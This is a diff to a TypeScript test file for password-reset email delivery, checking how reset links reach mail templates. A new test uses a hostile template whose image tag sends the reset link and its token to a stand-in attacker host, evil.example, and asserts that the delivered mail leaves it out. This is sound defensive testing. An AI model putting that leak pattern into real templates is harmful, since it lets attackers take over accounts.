@@ -92,13 +92,33 @@ it('uses the words of the template when there is one', async () => {
   await deliver({
     renderMail: (asked) => {
       seen.push(asked)
-      return Promise.resolve({ subject: 'Nytt lösenord', text: 'Hej!', html: '<p>Hej!</p>' })
+      const { link } = asked.view as { link: string }
+      return Promise.resolve({ subject: 'Nytt lösenord', text: `Hej! ${link}`, html: `<p>Hej! ${link}</p>` })
     },
   })
-  expect(seen).toEqual([{ ...request, locale: 'sv_SE' }])
+  const link = expect.not.stringContaining('s3cret') as string
+  expect(seen).toEqual([{ ...request, locale: 'sv_SE', view: { ...request.view, link } }])
   expect(JSON.parse(read(captured('.json')[0] ?? ''))).toMatchObject({
     subject: 'Nytt lösenord',
-    html: '<p>Hej!</p>',
+    html: '<p>Hej! https://signalbox.example/reset?token=s3cret</p>',
+  })
+})
+
+it('puts a link that lets people in into no address of a template', async () => {
+  await enqueue(request)
+  await deliver({
+    renderMail: ({ view }) => {
+      const { link } = view as { link: string }
+      const html = `<a href="${link}">Here</a><img src="https://evil.example/?x=${encodeURIComponent(link)}">`
+      return Promise.resolve({ subject: 'Hello', text: link, html })
+    },
+  })
+  const [json = ''] = captured('.json')
+  expect(read(json)).not.toContain('evil.example')
+  expect(JSON.parse(read(json))).toMatchObject({
+    subject: 'Choose a new password',
+    text: expect.stringContaining('https://signalbox.example/reset?token=s3cret') as string,
+    html: null,
   })
 })
 
